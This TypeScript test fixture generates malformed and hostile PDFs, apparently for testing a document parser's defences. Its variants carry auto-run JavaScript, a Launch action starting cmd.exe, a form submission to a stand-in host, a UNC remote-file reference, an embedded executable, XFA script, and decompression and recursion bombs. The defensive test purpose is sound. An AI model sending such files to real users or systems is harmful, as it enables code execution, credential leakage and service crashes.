import { deflateSync } from 'node:zlib'
import type { HostileFile } from './hostile-file.ts'

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>'
const text = 'BT /F1 12 Tf 72 720 Td (x) Tj ET'

interface Changes {
  catalog?: string
  pages?: string
  page?: string
  content?: string | Buffer
  contentKeys?: string
  trailer?: string
  more?: readonly string[]
}

/** A PDF of one page, changed somewhere. ISO 32000-1, 7.5 */
function pdfWith({
  catalog = '',
  pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  page: pageObject = page,
  content = text,
  contentKeys = '',
  trailer = '',
  more = [],
}: Changes): Buffer {
  const stream = Buffer.from(content as string)
  const objects = [
    Buffer.from(`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`),
    Buffer.from(pages),
    Buffer.from(pageObject),
    Buffer.concat([
      Buffer.from(`<< /Length ${stream.length} ${contentKeys} >>\nstream\n`),
      stream,
      Buffer.from('\nendstream'),
    ]),
    ...more.map(object => Buffer.from(object)),
  ]
  const body = [Buffer.from('%PDF-1.7\n')]
  for (const [n, object] of objects.entries())
    body.push(Buffer.from(`${n + 1} 0 obj\n`), object, Buffer.from('\nendobj\n'))
  const file = Buffer.concat(body)
  const offsets = objects.map((_, n) => file.indexOf(`${n + 1} 0 obj\n`))
  const table = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  return Buffer.concat([
    file,
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer << /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${file.length}\n%%EOF\n`,
    ),
  ])
}

const action = (inner: string) => ({ catalog: `/OpenAction << ${inner} >>` })
const packedContent = (bytes: Buffer, times = 1) => {
  let content = bytes
  for (let n = 0; n < times; n++) content = deflateSync(content)
  return { content, contentKeys: `/Filter [${'/FlateDecode '.repeat(times)}]` }
}

const changes: Record<string, () => Changes> = {
  'runs a script when it is opened': () => action('/S /JavaScript /JS (app.alert\\(document.domain\\))'),
  'runs a script of a page': () => ({
    page: `${page.slice(0, -2)} /AA << /O << /S /JavaScript /JS (x\\(\\)) >> >> >>`,
  }),
  'starts a program': () => action('/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>'),
  'opens an address': () => action('/S /URI /URI (javascript:alert\\(1\\))'),
  'sends a form': () => action('/S /SubmitForm /F (https://hostile.invalid/)'),
  'opens another file': () => action('/S /GoToR /F (\\\\\\\\hostile.invalid\\\\x.pdf) /D [0 /Fit]'),
  'holds a program': () => ({
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
    more: ['<< /Type /Filespec /F (a.exe) >>'],
  }),
  'holds a form of XML': () => ({ catalog: '/AcroForm << /XFA (<xdp><script>x</script></xdp>) >>' }),
  'has a tree of pages that is its own child': () => ({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
  'says it has 2,000,000,000 pages': () => ({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>' }),
  'names one page 20,000 times': () => ({
    pages: `<< /Type /Pages /Kids [${'3 0 R '.repeat(20_000)}] /Count 20000 >>`,
  }),
  'has a table that leads back to itself': () => ({ trailer: '/Prev 9' }),
  'has a content that unpacks to 100 MB': () => packedContent(Buffer.alloc(100_000_000, ' ')),
  'has a content of 3,000,000 words': () =>
    packedContent(Buffer.from(`BT ${'(a) Tj '.repeat(3_000_000)} ET`)),
  'is packed thirty times': () => packedContent(Buffer.from(text), 30),
  'is nested 100,000 times': () => ({ content: `${'['.repeat(100_000)} ${'<<'.repeat(100_000)}` }),
  'has a page of a thousand kilometres': () => ({
    page: page.replace('612 792', '99999999999 99999999999'),
  }),
  'is locked with a key that is none': () => ({
    trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /O (x) /U (y) /P -1 >> /ID [(a) (b)]',
  }),
}

export const pdfFiles: readonly HostileFile[] = Object.entries(changes).map(
  ([what, changesOf]): HostileFile => ({
    what: `a PDF that ${what}`,
    name: 'tài liệu.pdf',
    mediaType: 'application/pdf',
    build: () => pdfWith(changesOf()),
  }),
)
